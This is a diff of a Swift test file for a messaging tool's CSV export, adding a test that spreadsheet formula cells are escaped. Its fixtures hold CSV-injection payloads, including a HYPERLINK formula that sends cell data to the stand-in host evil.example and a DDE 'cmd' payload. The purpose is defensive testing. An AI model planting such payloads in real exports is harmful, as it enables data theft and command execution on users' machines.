@@ -53,7 +53,8 @@ import Testing
     @Test func aCSVExportOfBrandMessagesRoundTripsThroughABulkSend() throws {
         let source = try sandbox()
         try source.ok("message", "send", "summer-launch", "c01", "Line one,\n\"quoted\" line two")
-        let export = try source.ok("thread", "export", "summer-launch", "--format", "csv", "--from", "brand")
+        try source.ok("message", "send", "summer-launch", "c02", "--", "- packed: 2 boxes")
+        let export = try source.ok("thread", "export", "summer-launch", "--format", "csv", "--from", "brand", "--no-formula-guard")
         try export.write(toFile: source.path("export.csv"), atomically: true, encoding: .utf8)
         let target = try acceptedCreators(2)
         // The export's key column keys each row again, so re-importing sends nothing twice.
@@ -64,6 +65,29 @@ import Testing
         let original = try source.sqlite("SELECT group_concat(body, '|') FROM (SELECT body FROM message WHERE sender = 'brand' ORDER BY id)")
         let copied = try target.sqlite("SELECT group_concat(body, '|') FROM (SELECT body FROM message ORDER BY id)")
         #expect(copied == original)
+    }
+
+    @Test func aCSVExportGuardsCellsASpreadsheetWouldRunAsFormulas() throws {
+        let cli = try acceptedCreators(1)
+        let hostile = [#"=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1", "\r=1+1",
+                       "plain = text"]
+        for (number, body) in hostile.enumerated() {
+            try cli.ok("--as", "c01", "message", "send", "summer-launch", "c01", "--key", number == 0 ? "=1+2" : "k\(number)", "--", body)
+        }
+        // Python's csv module reads the cells back as a spreadsheet would receive them.
+        func cells(_ csv: String) throws -> String {
+            let script = "import csv, json, sys; print(json.dumps([[r['body'], r['key']] for r in csv.DictReader(sys.stdin)]))"
+            let parsed = try Sandbox.execute(URL(fileURLWithPath: "/usr/bin/env"), ["python3", "-c", script], stdin: Data(csv.utf8),
+                                             environment: cli.environment, in: cli.folder)
+            #expect(parsed.status == 0, "\(parsed.stderr)")
+            return try jq("[.[] | .[0]], .[0][1]", parsed.stdout).replacingOccurrences(of: "\n", with: " ")
+        }
+        let guarded = try cells(cli.ok("thread", "export", "--format", "csv"))
+        #expect(guarded == #"["'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")","'+cmd|' /C calc'!A0","'@SUM(1+1)","'-2+3","'\t=1+1","'\r=1+1","plain = text"] "'=1+2""#)
+        let exact = try cells(cli.ok("thread", "export", "--format", "csv", "--no-formula-guard"))
+        #expect(exact == #"["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")","+cmd|' /C calc'!A0","@SUM(1+1)","-2+3","\t=1+1","\r=1+1","plain = text"] "=1+2""#)
+        #expect(try jq("[inputs | .body][0]", "null\n" + cli.ok("thread", "export", "--format", "jsonl")) == #""=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")""#,
+                "JSON Lines stays exact")
     }
 
     @Test func exportMemoryStaysFlatOverAHundredThousandMessages() throws {
